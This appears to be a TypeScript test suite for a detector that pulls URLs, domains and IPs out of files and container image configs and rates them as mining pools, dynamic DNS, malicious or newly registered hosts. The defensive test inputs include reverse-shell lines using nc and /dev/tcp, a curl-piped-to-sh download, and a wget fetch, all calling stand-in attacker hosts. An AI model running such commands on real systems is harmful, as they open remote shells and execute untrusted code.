import assert from 'node:assert/strict';
import { test } from 'node:test';
import { emptyConfig as empty } from '../../../test/fixtures/image-config.ts';
import { processorTime } from '../../../test/fixtures/processor-time.ts';
import { parseLists } from '../../indicator/lists.ts';
import type { FileKind } from '../detector.ts';
import { kindOf } from '../kind.ts';
import { anchors } from './anchors.ts';
import { networkDetector } from './detector.ts';
import { networkInspection } from './image.ts';
import { judgeNetwork, loadNetworkLists, parseRegistrations, type SeenValue } from './judge.ts';

function inspect(content: string | Buffer, kind?: FileKind) {
  const bytes = Buffer.from(content);
  const exact = bytes.toString('latin1');
  const lower = exact.toLowerCase();
  const record = { path: '', size: bytes.length, mode: 0, uid: 0, gid: 0, kind: kind ?? kindOf(bytes) };
  const hits = (name: string): number[] => {
    const anchor = anchors[name]!;
    if (anchor.kinds !== undefined && !anchor.kinds.includes(record.kind)) return [];
    const hay = anchor.nocase ? lower : exact;
    const found: number[] = [];
    for (const text of [anchor.text, ...(anchor.also ?? [])])
      for (let at = hay.indexOf(text); at >= 0; at = hay.indexOf(text, at + 1)) found.push(at);
    return found;
  };
  return networkDetector.inspect(
    { ...record, bytes, offset: 0, matches: [], hits },
    { check: () => undefined },
  ).observables;
}
const values = (content: string | Buffer, kind?: FileKind) =>
  inspect(content, kind).map((one) => `${one.type} ${one.value}`);

test('URLs of any file give URL and host, in normal form and once', () => {
  const text =
    'x HTTP://A.Debian.org/b "ftp://a.debian.org:21/" https://a.debian.org/c. tcp://45.9.148.21:80';
  assert.deepEqual(values(Buffer.from('\x7fELF\0' + text)), [
    'url http://a.debian.org/b',
    'domain a.debian.org',
    'url ftp://a.debian.org',
    'url https://a.debian.org/c',
    'url tcp://45.9.148.21:80',
    'ip 45.9.148.21',
  ]);
  for (const one of inspect(text))
    if (one.type === 'url') assert.ok(text.slice(one.offset).toLowerCase().startsWith(one.value.slice(0, 6)));
});

test('user information never enters a URL', () => {
  assert.deepEqual(values('u="https://bob:secret@git.debian.org/x"'), [
    'url https://git.debian.org/x',
    'domain git.debian.org',
  ]);
});

test('variables, examples, private addresses and single labels are no hosts', () => {
  assert.deepEqual(
    values(
      'http://$HOST/ http://localhost:8080/ http://10.0.0.1/ https://www.example.com/ http://%s:%d/ http://db/x',
    ),
    [],
  );
});

test('in a comment a URL is kept as URL and is no host', () => {
  assert.deepEqual(values('#!/bin/sh\n# see http://x.ddns.net/y\nA=1 # http://z.ddns.net/\n'), [
    'url http://x.ddns.net/y',
    'url http://z.ddns.net',
  ]);
  assert.deepEqual(values('" Home: http://x.ddns.net/y\ncurl http://x.ddns.net/y\n'), [
    'url http://x.ddns.net/y',
    'domain x.ddns.net',
  ]);
});

test('bare hosts are taken from scripts and small texts, addresses of people are not', () => {
  assert.deepEqual(
    values('server = pool.minexmr.com:4444\nmail = joe@debian.org\nimport os.path.com()\nx/y.com\n'),
    ['domain pool.minexmr.com'],
  );
  assert.deepEqual(values('pool.minexmr.com ' + 'x '.repeat(40_000)), []);
});

test('scripts that connect give up names of any ending, device paths and addresses, but no versions', () => {
  assert.deepEqual(
    values(
      '#!/bin/bash\nV=10.2.3.4\nnc -e sh 45.9.148.99 4444\nbash -i >& /dev/tcp/evil.su/443 0>&1\ncurl -s get.evil.ru/a | sh\nlib-1.22.33.44.so',
    ),
    ['domain get.evil.ru', 'domain evil.su', 'ip 45.9.148.99'],
  );
});

test('a file full of URLs is bounded', () => {
  const used = processorTime();
  const text = Array.from({ length: 20_000 }, (_, index) => `http://h${index}.debian.org/x`).join(' ');
  assert.equal(inspect(text).length, 2000);
  inspect('http://a.'.repeat(100_000));
  inspect('tp://'.repeat(100_000));
  inspect('.com'.repeat(10_000));
  assert.ok(used() < 5000);
});

test('environment, commands and history of an image are read, labels are not', () => {
  const config = {
    ...empty,
    env: ['C2=http://x.ddns.net/a', 'SERVER=z.ddns.net:3333', 'FILE=main.py', 'TIME=10:30'],
    cmd: ['sh', '-c', 'wget -q http://45.9.148.21/a'],
    labels: { url: 'https://nginx.org' },
    history: [{ createdBy: 'RUN curl https://y.ddns.net/', comment: '', created: '' }],
  };
  assert.deepEqual(
    networkInspection({ reference: 'x', config })
      .observables.filter((one) => one.type !== 'url')
      .map((one) => [one.key, one.value]),
    [
      ['Env.C2', 'x.ddns.net'],
      ['Env.SERVER', 'z.ddns.net'],
      ['Cmd', '45.9.148.21'],
      ['history[0]', 'y.ddns.net'],
    ],
  );
});

test('a listed host is found whatever its ending, what merely ends alike is not', () => {
  assert.deepEqual(
    values(
      'a: gulf.moneroocean.stream:10128\nb: xmrpool.eu\nc: pool.hashvault.pro\nd: notxmrpool.eu, xmrpool.europe\n',
    ).sort(),
    ['domain gulf.moneroocean.stream', 'domain pool.hashvault.pro', 'domain xmrpool.eu'],
  );
  assert.deepEqual(values('# xmrpool.eu\nx@xmrpool.eu y/xmrpool.eu self.xmrpool.eu()\n'), []);
});

test('how a host was written is noted', () => {
  const notes = (text: string) => inspect(text).map((one) => one.note);
  assert.deepEqual(notes('x: pool.minexmr.com\n'), ['bare']);
  assert.deepEqual(notes('x: pool.minexmr.com:4444\n'), ['endpoint']);
  assert.deepEqual(notes('#!/bin/sh\nnc -z pool.minexmr.com 4444\n'), ['script']);
});

const seen = (value: string, ordinal = 0, note = 'url'): SeenValue => ({
  type: /^[\d.]+$/.test(value) ? 'ip' : 'domain',
  value,
  note,
  places: [{ ordinal, offset: 7 }],
  files: 1,
});
const lists = loadNetworkLists('fresh-name.com,2026-11-20\nold-name.com,2020-01-01\nbroken\n');
const now = new Date('2026-11-23T00:00:00Z');
const judged = (...values: SeenValue[]) =>
  judgeNetwork(values, lists, now).map(({ finding }) => [finding.rule, finding.severity, finding.value]);

test('hosts are judged by what they are for', () => {
  assert.deepEqual(
    judged(
      seen('xmr-eu1.nanopool.org'),
      seen('c2.duckdns.org'),
      seen('a1.ngrok.io'),
      seen('teamtnt.red'),
      seen('q.oast.fun'),
    ),
    [
      ['network/mining-pool', 'medium', 'xmr-eu1.nanopool.org'],
      ['network/dynamic-dns', 'medium', 'c2.duckdns.org'],
      ['network/proxy-avoidance', 'medium', 'a1.ngrok.io'],
      ['network/malicious', 'medium', 'teamtnt.red'],
      ['network/hacking', 'medium', 'q.oast.fun'],
    ],
  );
});

test('a service named, not used, is at most low', () => {
  assert.deepEqual(
    judged(
      ...[
        'duckdns.org',
        'www.noip.com',
        'members.dyndns.org',
        'ip1.dynupdate.no-ip.com',
        'dynupdate6.no-ip.com',
        'deb.debian.org',
      ].map((host) => seen(host)),
    ),
    [],
  );
  assert.equal(judged(seen('www.somebody.duckdns.org')).length, 1);
  assert.deepEqual(
    judged(seen('nanopool.org'), seen('www.nanopool.org')).map((one) => one[1]),
    ['low', 'low'],
  );
});

test('a pool is mined at on a port or by a script; its name in a rule or table is low', () => {
  const severity = (host: string, note: string) => judged(seen(host, 0, note)).map((one) => one[1]);
  assert.deepEqual(severity('pool.supportxmr.com', 'bare'), ['low']);
  assert.deepEqual(severity('pool.supportxmr.com', 'script'), ['medium']);
  assert.deepEqual(severity('xmrpool.eu', 'script'), ['low']);
  assert.deepEqual(severity('xmrpool.eu', 'endpoint'), ['medium']);
});

test('a host is listed once, however often it was written in other ways', () => {
  const many = Array.from({ length: 19 }, (_, index) => seen(`h${index}.supportxmr.com`, 5, 'script'));
  assert.equal(judged(...many, seen('h0.supportxmr.com', 5, 'pool')).length, 20);
});

test('a host known from malware is never strong by itself', () => {
  for (const host of ['teamtnt.red', '1.234.16.54']) {
    const [found] = judgeNetwork([seen(host, 0, 'script')], lists, now);
    assert.ok((found?.finding.confidence ?? 1) < 0.6);
  }
});

test('a file with twenty hosts of one kind is a list', () => {
  const many = Array.from({ length: 20 }, (_, index) => seen(`h${index}.duckdns.org`, 5));
  assert.deepEqual(judged(...many, seen('real.duckdns.org', 6)), [
    ['network/dynamic-dns', 'medium', 'real.duckdns.org'],
  ]);
});

test('a file that knows many dynamic DNS services is a client of theirs', () => {
  const services = ['duckdns.org', 'no-ip.com', 'dyndns.org', 'nsupdate.info', 'freemyip.com', 'dynu.com'];
  const hosts = services.map((service) => seen(`x.${service}`, 5));
  assert.equal(judged(...hosts.slice(0, 5)).length, 5);
  assert.deepEqual(judged(...hosts), []);
});

test('a domain is new for 32 days by the feed', () => {
  assert.deepEqual(judged(seen('a.fresh-name.com'), seen('a.old-name.com')), [
    ['network/newly-registered', 'medium', 'a.fresh-name.com'],
  ]);
  const later = judgeNetwork([seen('a.fresh-name.com')], lists, new Date('2027-02-01'));
  assert.deepEqual(later, []);
});

test('a sinkhole or shortener is never a finding', () => {
  const hosts = parseLists({
    malicious: 'x.org',
    sinkhole: 'x.org',
    'dynamic-dns': 'y.org',
    shortener: 'a.y.org',
  });
  assert.deepEqual(
    judgeNetwork([seen('a.x.org'), seen('a.y.org')], { hosts, registered: new Map() }, now),
    [],
  );
});

test('a feed line that is none is left out', () => {
  assert.deepEqual(
    [...parseRegistrations('domain,date\n,2026-01-01\nA.com , 2026-01-02\nb.com,never\n').keys()],
    ['a.com'],
  );
});
